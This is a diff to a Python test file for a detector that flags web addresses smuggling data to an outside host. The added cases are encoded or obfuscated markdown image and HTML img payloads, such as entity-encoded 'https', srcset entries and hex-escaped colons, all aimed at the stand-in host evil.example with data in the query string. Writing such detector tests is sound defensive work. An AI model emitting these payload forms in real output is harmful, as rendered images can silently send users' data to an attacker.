@@ -20,6 +20,10 @@ EVIL = "https://evil.example"
         ("link", f'<a href="{EVIL}/?token=0123456789abcdefgh">x</a>'),
         ("html", f'<img src="{EVIL}/x?d=ana">'),
         ("html", "<img src=//evil.example/x?d=ana>"),
+        ("html", f'<img srcset="a.png 1x, {EVIL}/x?d=ana 2x">'),
+        ("image", "![a](&#104;ttps://evil.example/?d=ana)"),
+        ("image", "![a](https&colon;//evil.example/?d=ana)"),
+        ("html", "<img src=https&#x3a;&#x2F;/evil.example/x?d=ana>"),
         ("css", f"background:url({EVIL}/a?z=ana)"),
     ],
 )
@@ -40,6 +44,8 @@ def test_an_address_that_carries_data_is_found(kind: str, text: str) -> None:
         "a // comment, and ftp://evil.example/?q=0123456789abcdefgh",
         "![a](images/plan.png?x=secret)",
         "http://[broken",
+        f"![logo]({EVIL}/logo.png?width=300&amp;v=2)",
+        f"<img srcset='a.png 1x'> {EVIL}/logo.png?d=ana",
     ],
 )
 def test_an_ordinary_address_is_not_found(text: str) -> None:
